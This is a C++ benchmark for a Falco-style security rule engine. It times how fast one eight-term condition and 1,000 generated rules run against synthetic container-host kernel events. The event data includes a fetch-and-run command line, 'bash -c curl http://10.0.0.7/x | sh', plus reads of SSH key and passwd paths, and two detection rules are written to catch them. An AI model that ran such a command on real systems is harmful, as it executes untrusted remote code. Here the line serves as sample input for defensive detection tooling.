// What a gate costs: one condition of eight terms, and 1,000 rules against a stream of kernel
// events. The events are of the kinds and in the proportions that a busy container host shows
// (opens, reads of configuration, connections, new processes); most fit no rule, some do. Each
// benchmark counts what matched, so that a program that decides nothing would be seen.
#include <array>
#include <cstdint>
#include <random>
#include <string>
#include <vector>

#include <benchmark/benchmark.h>
#include <fmt/format.h>

#include "portique/policy/compiler.h"
#include "portique/policy/evaluation.h"

namespace {

namespace base = portique::base;
namespace policy = portique::policy;

const policy::FieldTable& table() {
  return policy::field_table(policy::Domain::Event);
}

/// An event as a sensor holds it: one value a field.
class Event final : public policy::FieldSource {
public:
  Event() : values_(table().fields.size()) {}

  void set(std::string_view field, policy::Value value) {
    values_.at(*policy::find_field(table(), field)) = value;
  }

  void set(std::string_view field, std::string text) {
    texts_.push_back(std::make_unique<std::string>(std::move(text)));
    set(field, policy::Value::text(*texts_.back()));
  }

  void set_ancestors(std::vector<std::string> names) {
    for (std::string& name : names) {
      texts_.push_back(std::make_unique<std::string>(std::move(name)));
      ancestors_.push_back(policy::Value::text(*texts_.back()));
    }
  }

  [[nodiscard]] policy::Value get(const policy::FieldUse& use) const override {
    static const std::uint16_t kAname = *policy::find_field(table(), "proc.aname");
    if (use.field == kAname) {
      if (!use.has_argument) return policy::Value::list(ancestors_.data(), ancestors_.size());
      const auto index = static_cast<std::size_t>(use.index);
      return index >= 1 && index <= ancestors_.size() ? ancestors_[index - 1] : policy::Value();
    }
    return values_[use.field];
  }

private:
  std::vector<policy::Value> values_;
  std::vector<policy::Value> ancestors_;
  std::vector<std::unique_ptr<std::string>> texts_;
};

template <std::size_t N>
std::string any(std::mt19937& random, const std::array<const char*, N>& of) {
  return of[random() % N];
}

constexpr std::array kTypes{"openat",
                            "openat",
                            "openat",
                            "read",
                            "connect",
                            "execve",
                            "close",
                            "clone",
                            "unlink",
                            "rename",
                            "accept4",
                            "setuid",
                            "mmap",
                            "fchmodat"};
constexpr std::array kNames{"nginx", "postgres", "java", "node", "bash", "python3", "runc", "sshd"};
constexpr std::array kPaths{"/etc/passwd",
                            "/usr/lib/x86_64-linux-gnu/libc.so.6",
                            "/proc/self/status",
                            "/var/lib/postgresql/16/main/base/5/16384",
                            "/etc/nginx/conf.d/default.conf",
                            "/tmp/upload-7f3a",
                            "/root/.ssh/authorized_keys",
                            "/app/node_modules/express/index.js",
                            "/dev/null",
                            "/var/log/nginx/access.log"};
constexpr std::array kLines{"nginx: worker process",
                            "java -jar /app/service.jar --port 8080",
                            "bash -c curl http://10.0.0.7/x | sh",
                            "python3 manage.py runserver 0.0.0.0:8000"};

std::vector<std::unique_ptr<Event>> make_events() {
  std::mt19937 random(7); // NOLINT(cert-msc51-cpp): the same events in every run
  std::vector<std::unique_ptr<Event>> events;
  for (int i = 0; i < 256; ++i) {
    auto event = std::make_unique<Event>();
    event->set("evt.type", any(random, kTypes));
    event->set("evt.dir", "<");
    event->set("evt.is_open_write", policy::Value::boolean(random() % 8 == 0));
    event->set("evt.is_open_read", policy::Value::boolean(random() % 2 == 0));
    event->set("evt.rawres", policy::Value::integer(random() % 10 == 0 ? -2 : 3));
    event->set("proc.name", any(random, kNames));
    event->set("proc.pname", any(random, kNames));
    event->set("proc.cmdline", any(random, kLines));
    event->set("proc.exepath", "/usr/bin/" + any(random, kNames));
    event->set("proc.tty", policy::Value::integer(0));
    event->set("fd.name", any(random, kPaths));
    event->set("fd.num", policy::Value::integer(static_cast<std::int64_t>(random() % 64)));
    event->set("fd.typechar", "f");
    event->set("fd.sport", policy::Value::integer(static_cast<std::int64_t>(random() % 9000)));
    event->set("user.name", random() % 4 == 0 ? "root" : "app");
    event->set("user.uid", policy::Value::integer(static_cast<std::int64_t>(random() % 3 * 500)));
    event->set("container.id", random() % 3 == 0 ? "host" : "3ad7b26ded6d");
    event->set("container.image.repository",
               "registry.example/app" + std::to_string(random() % 40));
    event->set_ancestors({any(random, kNames), "containerd-shim", "systemd"});
    events.push_back(std::move(event));
  }
  return events;
}

/// Rules of the shapes that Falco's rule files have, each with names of its own.
std::vector<std::string> make_rules(std::size_t count) {
  std::mt19937 random(11); // NOLINT(cert-msc51-cpp): the same rules in every run
  const auto number = [&](unsigned below) { return std::to_string(random() % below); };
  std::vector<std::string> rules;
  for (std::size_t i = 0; i < count; ++i) {
    const std::string own = std::to_string(i);
    switch (i % 8) {
    case 0:
      rules.push_back("evt.type in (open, openat, openat2) and evt.is_open_write = true and "
                      "fd.typechar = 'f' and fd.num >= 0 and fd.name startswith /opt/app" +
                      own + " and not proc.name in (dpkg, rpm, apt, app" + own + ")");
      break;
    case 1:
      rules.push_back(
          "evt.type in (execve, execveat) and container.id != host and proc.name = tool" + own +
          " and not proc.aname in (runc, build" + own + ") and proc.tty != 0");
      break;
    case 2:
      rules.push_back("evt.type in (execve, execveat) and proc.cmdline contains \"--secret-" + own +
                      "\" and user.uid = 0 and not proc.pname in (sudo, su)");
      break;
    case 3:
      rules.push_back("evt.type = connect and fd.sport in (" + number(9000) + ", " + number(9000) +
                      ", " + number(9000) + ") and evt.rawres >= 0 and not proc.name = agent" +
                      own);
      break;
    case 4:
      rules.push_back("evt.type in (openat, open) and evt.is_open_read = true and fd.name pmatch "
                      "(/srv/data" +
                      own + ", /home/user" + own + ") and not proc.name in (backup, sshd)");
      break;
    case 5:
      rules.push_back("fd.name glob '/var/www/site" + own +
                      "/*.php' and evt.type in (openat, rename, unlink) and user.name != deploy");
      break;
    case 6:
      rules.push_back("container.image.repository = registry.example/svc" + own +
                      " and evt.type in (setuid, setgid, fchmodat) and not user.name = root");
      break;
    default:
      rules.push_back("(evt.type = unlink or evt.type = rename) and (fd.name endswith .log" + own +
                      " or fd.name contains /audit" + own + "/) and proc.name != logrotate");
    }
  }
  // ... and some that do match.
  rules.back() = "evt.type = openat and fd.name startswith /root/.ssh and not proc.name = sshd";
  rules[rules.size() - 2] = "evt.type = execve and proc.cmdline icontains \"| SH\"";
  return rules;
}

policy::Program compile(const std::vector<std::string>& rules) {
  const base::Limits limits;
  static const policy::Definitions definitions;
  policy::Program program(policy::Domain::Event);
  policy::Compiler compiler(program, definitions, limits);
  for (const std::string& rule : rules) {
    const auto expr = policy::parse_condition(rule, limits);
    const auto node = expr ? compiler.compile(*expr, rule) : std::unexpected(expr.error());
    if (!node) {
      fmt::print(stderr, "{}: {}\n", rule, node.error().message);
      std::exit(1);
    }
    program.add_condition(*node);
  }
  program.finish();
  return program;
}

/// Every one of the eight terms is asked: the last one decides.
void eight_terms(benchmark::State& state) {
  const policy::Program program =
      compile({"evt.dir = \"<\" and fd.num >= 0 and fd.typechar = f and proc.tty = 0 and "
               "not proc.name in (dpkg, rpm, apt, snapd) and proc.cmdline contains - and "
               "not fd.name pmatch (/boot, /opt/vendor) and user.name != nobody"});
  const auto events = make_events();
  policy::Evaluation evaluation(program);
  std::size_t held = 0;
  for (const auto& event : events) {
    evaluation.begin(*event);
    held += evaluation.holds(0) ? 1 : 0;
  }
  if (held == 0) state.SkipWithError("no event fits the condition");
  std::size_t next = 0;
  for (auto _ : state) {
    evaluation.begin(*events[next++ % events.size()]);
    benchmark::DoNotOptimize(evaluation.holds(0));
  }
  state.SetItemsProcessed(state.iterations());
}

void thousand_rules(benchmark::State& state) {
  const policy::Program program = compile(make_rules(1000));
  const auto events = make_events();
  policy::Evaluation evaluation(program);
  std::size_t matched = 0;
  for (const auto& event : events) {
    evaluation.begin(*event);
    matched += evaluation.matches().size();
  }
  if (matched == 0) state.SkipWithError("no event fits any rule");
  std::size_t next = 0;
  for (auto _ : state) {
    evaluation.begin(*events[next++ % events.size()]);
    benchmark::DoNotOptimize(evaluation.matches().size());
  }
  state.SetItemsProcessed(state.iterations());
  state.counters["matches"] = static_cast<double>(matched) / static_cast<double>(events.size());
}

void compile_thousand_rules(benchmark::State& state) {
  const auto rules = make_rules(1000);
  for (auto _ : state)
    benchmark::DoNotOptimize(compile(rules).terms().size());
}

class ClaimReporter : public benchmark::ConsoleReporter {
public:
  void ReportRuns(const std::vector<Run>& runs) override {
    ConsoleReporter::ReportRuns(runs);
    for (const Run& run : runs) {
      const double nanoseconds =
          run.cpu_accumulated_time / static_cast<double>(run.iterations) * 1e9;
      if (run.benchmark_name() == "eight_terms")
        check(run, "a condition of eight terms", nanoseconds, 300, "ns");
      if (run.benchmark_name() == "thousand_rules")
        check(run, "an event against 1,000 rules", nanoseconds / 1000, 10, "us");
    }
  }

  [[nodiscard]] bool held() const { return held_; }

private:
  void
  check(const Run& run, std::string_view name, double value, double bound, std::string_view unit) {
    const bool good = !run.error_occurred && value <= bound;
    held_ = held_ && good;
    fmt::print(
        "{} {:<46} {:>12.2f}{} <= {:.0f}\n", good ? "ok  " : "MISS", name, value, unit, bound);
  }

  bool held_ = true;
};

} // namespace

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  benchmark::RegisterBenchmark("eight_terms", eight_terms);
  benchmark::RegisterBenchmark("thousand_rules", thousand_rules);
  benchmark::RegisterBenchmark("compile_thousand_rules", compile_thousand_rules)
      ->Unit(benchmark::kMillisecond);
  ClaimReporter reporter;
  benchmark::RunSpecifiedBenchmarks(&reporter);
  return reporter.held() ? 0 : 1;
}
